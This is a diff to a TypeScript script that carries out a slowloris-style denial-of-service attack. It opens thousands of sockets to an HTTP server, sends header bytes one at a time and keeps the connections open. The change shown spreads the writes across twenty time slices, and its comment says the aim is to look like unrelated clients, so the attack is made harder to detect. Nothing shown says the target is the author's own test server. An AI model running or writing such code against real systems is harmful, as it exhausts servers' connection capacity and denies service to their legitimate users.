@@ -9,6 +9,7 @@ const HEADER = `GET /users HTTP/1.1\r\nHost: a\r\nX-Slow: ${'x'.repeat(300)}`
 /** So many are opened at once: the queue of a listening socket holds 511. */
 const AT_ONCE = 200
 const PER_ADDRESS = 5_000
+const PARTS = 20
 const open = new Set<Socket>()
 let sent = 0
 
@@ -21,8 +22,9 @@ async function add (number: number): Promise<void> {
 
 for (let i = 0; i < count; i += AT_ONCE) await Promise.all(Array.from({ length: Math.min(AT_ONCE, count - i) }, async (_, j) => { await add(i + j) }))
 console.log(`open ${open.size}`)
+// As strangers do who know nothing of each other: not all in the same instant.
 setInterval(() => {
-  for (const socket of open) socket.write(HEADER[sent % HEADER.length] ?? 'x')
-  sent++
-  console.log(`left ${open.size}`)
-}, 1_000)
+  const all = [...open]
+  for (let i = sent % PARTS; i < all.length; i += PARTS) all[i]?.write(HEADER[sent % HEADER.length] ?? 'x')
+  if (++sent % PARTS === 0) console.log(`left ${open.size}`)
+}, 1_000 / PARTS)
